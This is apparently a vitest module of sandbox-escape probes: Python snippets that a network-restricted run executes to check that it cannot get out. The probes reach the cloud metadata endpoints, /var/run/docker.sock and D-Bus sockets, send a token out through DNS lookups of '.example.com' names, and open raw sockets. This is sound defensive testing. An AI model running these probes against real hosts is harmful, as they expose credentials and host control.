import { expect } from "vitest";
import type { Attack } from "./attack.ts";
import { python } from "./runs.ts";

/** Attacks on the network by a run without network permission. */
export const networkAttacks: readonly Attack[] = [
  {
    tries: "connect to the host by TCP and UDP on all its addresses",
    control: "succeeds",
    code: python`
      import socket

      def connect(family, address):
          with socket.socket(family, socket.SOCK_STREAM) as one:
              one.settimeout(2)
              one.connect(address)
              return one.recv(100)

      def send(address):
          with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
              one.settimeout(0.2)
              one.sendto(b"hello", address)
              return one.recv(10)

      def attack(bait):
          for host in ("127.0.0.1", "127.1.2.3", "0.0.0.0", "localhost"):
              attempt("TCP " + host, lambda: connect(socket.AF_INET, (host, bait["tcp"])))
          for host in ("::1", "::ffff:127.0.0.1", "::"):
              attempt("TCP " + host, lambda: connect(socket.AF_INET6, (host, bait["tcp6"])))
          attempt("UDP", lambda: send(("127.0.0.1", bait["udp"])))
    `,
  },
  {
    tries: "connect to other machines: by address, metadata service, broadcast, multicast",
    code: python`
      import socket

      def connect(family, kind, address):
          with socket.socket(family, kind) as one:
              one.settimeout(2)
              one.connect(address)
              one.send(b"hello")
              if kind == socket.SOCK_DGRAM:
                  one.recv(10)

      def attack(bait):
          for host in ("169.254.169.254", "10.0.0.1", "172.17.0.1", "192.0.2.1", "8.8.8.8", "224.0.0.1", "100.100.100.200"):
              attempt("TCP " + host, lambda: connect(socket.AF_INET, socket.SOCK_STREAM, (host, 80)))
              attempt("UDP " + host, lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, (host, 53)))
          for host in ("fd00:ec2::254", "2001:4860:4860::8888", "fe80::1"):
              attempt("TCP " + host, lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, (host, 80)))
    `,
  },
  {
    tries: "resolve names",
    code: python`
      import socket

      def attack(bait):
          for name in ("example.org", "metadata.google.internal", bait["token"] + ".example.com"):
              attempt(name, lambda: socket.getaddrinfo(name, 80))
    `,
  },
  {
    tries: "connect to unix and abstract sockets of the host",
    control: "succeeds",
    code: python`
      import socket

      def connect(path, kind):
          with socket.socket(socket.AF_UNIX, kind) as one:
              one.settimeout(2)
              one.connect(path)
              return one.recv(100)

      def attack(bait):
          paths = [bait["socket"], "\0" + bait["abstract"], "/var/run/docker.sock", "/run/dbus/system_bus_socket",
                   "/run/systemd/private", "/run/user/0/bus", "/dev/log", "/run/nscd/socket", "/tmp/.X11-unix/X0", "\0/tmp/.X11-unix/X0"]
          for path in paths:
              for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                  attempt("%r %d" % (path, kind), lambda: connect(path, kind))
    `,
  },
  {
    tries: "open sockets of other families",
    control: "succeeds",
    ofProcesses: true,
    code: python`
      import socket

      def attack(bait):
          kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET)
          families = {"netlink": 16, "packet": 17, "alg": 38, "vsock": 40, "bluetooth": 31, "can": 29, "xdp": 44, "kcm": 41,
                      "rds": 21, "tipc": 30, "x25": 9, "key": 15, "smc": 43, "nfc": 39, "ax25": 3, "qipcrtr": 42}
          for name, family in families.items():
              for kind in kinds:
                  attempt("%s %d" % (name, kind), lambda: socket.socket(family, kind, 0).close())
          for family in (socket.AF_INET, socket.AF_INET6):
              attempt("raw %d" % family, lambda: socket.socket(family, socket.SOCK_RAW, 1).close())
              attempt("ping %d" % family, lambda: socket.socket(family, socket.SOCK_DGRAM, 1).connect(("127.0.0.1", 0)))
    `,
  },
  {
    tries: "accept connections from the host",
    ofProcesses: true,
    code: python`
      import socket

      def attack(bait):
          path = bait["writable"] + "/server"
          attempt("unix socket", lambda: socket.socket(socket.AF_UNIX).bind(path))
          def listen(family, address):
              one = socket.socket(family)
              one.bind(address)
              one.listen()
              return one.getsockname()
          observe("TCP", lambda: listen(socket.AF_INET, ("127.0.0.1", 0)))
          observe("abstract", lambda: listen(socket.AF_UNIX, "\0" + bait["token"] + "-inside"))
    `,
  },
  {
    tries: "use a proxy of another run",
    code: python`
      import urllib.request

      def attack(bait):
          for name in list(os.environ):
              if name.lower().endswith("_proxy"):
                  attempt(name, lambda: "a proxy is set")
          attempt("request", lambda: urllib.request.urlopen("http://127.0.0.1:%d/" % bait["tcp"], timeout=2).read())
          attempt("elsewhere", lambda: urllib.request.urlopen("http://example.org/", timeout=2).read())
    `,
    check: (found) => expect(found).toBeNull(),
  },
];
